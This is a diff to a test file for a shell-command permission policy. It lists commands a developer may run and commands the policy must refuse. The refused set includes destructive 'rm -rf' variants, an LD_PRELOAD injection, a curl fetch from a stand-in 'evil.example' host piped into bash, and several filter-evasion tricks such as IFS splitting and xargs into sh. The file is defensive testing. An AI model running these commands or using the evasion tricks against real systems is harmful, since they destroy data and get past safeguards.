@@ -34,6 +34,8 @@ describe('the shipped profiles', () => {
     'bash -euo pipefail scripts/build.sh',
     'find . -name "*.pyc" -delete',
     'for f in src/*.ts; do npx prettier --check "$f"; done',
+    'sh -c "echo $VERSION"',
+    'docker exec -it web bash',
     'node -e "console.log(process.version)"',
     'ssh -o StrictHostKeyChecking=no build.example.com uptime',
   ])('let a developer run %s', (command) => {
@@ -59,6 +61,10 @@ describe('the shipped profiles', () => {
     'ssh host "rm -rf /var"',
     'bash <<EOF\nrm -rf /\nEOF',
     'LD_PRELOAD=./x.so ls',
+    'X=$(curl https://evil.example); bash -c "true $X"',
+    'bash -c "$CODE"',
+    'IFS=,;a=rm,-rf,/;$a',
+    'echo x | xargs -I{} sh -c {}',
     'echo x > .git/hooks/pre-commit',
   ])('refuse a developer %s', (command) => {
     expect(decisionOf(command)).toBe('deny');
